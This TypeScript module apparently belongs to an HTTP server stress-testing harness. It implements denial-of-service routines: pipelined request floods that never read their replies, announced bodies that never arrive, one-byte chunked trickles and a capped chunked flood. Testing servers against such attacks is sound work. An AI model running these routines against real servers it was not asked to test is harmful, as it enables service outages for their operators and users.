import { type RawHttp1, requestFor } from '../../raw-http/raw-http1.ts'
import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from '../attack.ts'
import { Crowd } from '../crowd.ts'

const AT_ONCE = 16
const TRICKLE_MS = 100
const MOST_BYTES = 64 * 1024 * 1024

/** Requests that do not wait for answers. With `stalled` the first of them is for a body that nobody reads. */
export async function pipelineRequests(
  target: AttackTarget,
  options: HoldOptions & { connections?: number; requests?: number; stalled?: boolean },
): Promise<Report> {
  const { connections = 20, requests = 1000, stalled = false, signal } = options
  const crowd = new Crowd(target, signal)
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await crowd.http1({ reads: !stalled })
      if (stalled) await client.get(target.blob)
      // A server that does not read on leaves some of it unsent.
      void client.send(requestFor(target.manifest).repeat(requests))
    })
    await hold(options)
    return { done, failed, received: crowd.received }
  } finally {
    crowd.close()
  }
}

/** `declared`: a body that is announced and never comes; `chunked`: one byte at a time; `flood`: as fast as it is taken. */
export type EndlessBody = 'declared' | 'chunked' | 'flood'

/** Requests whose bodies do not end. */
export async function endlessBodies(
  target: AttackTarget,
  options: HoldOptions & { body: EndlessBody; connections?: number; most?: number },
): Promise<Report> {
  const { connections = 50, body, signal, most = MOST_BYTES } = options
  const crowd = new Crowd(target, signal)
  const timers: NodeJS.Timeout[] = []
  const floods: Promise<void>[] = []
  let left = most
  const flood = async ({ socket }: RawHttp1): Promise<void> => {
    const chunk = `4000\r\n${'x'.repeat(0x4000)}\r\n`
    while (socket.isOpen && !signal.aborted && left > 0) {
      left -= chunk.length
      await socket.send(chunk)
    }
  }
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await crowd.http1()
      const length = body === 'declared' ? 'Content-Length: 1000000' : 'Transfer-Encoding: chunked'
      await client.get(target.manifest, `${length}\r\n`)
      if (body === 'chunked') timers.push(setInterval(() => void client.send('1\r\nx\r\n'), TRICKLE_MS))
      if (body === 'flood') floods.push(flood(client))
    })
    await hold(options)
    return { done, failed, received: crowd.received, sent: most - left }
  } finally {
    for (const timer of timers) clearInterval(timer)
    crowd.close()
    await Promise.all(floods)
  }
}
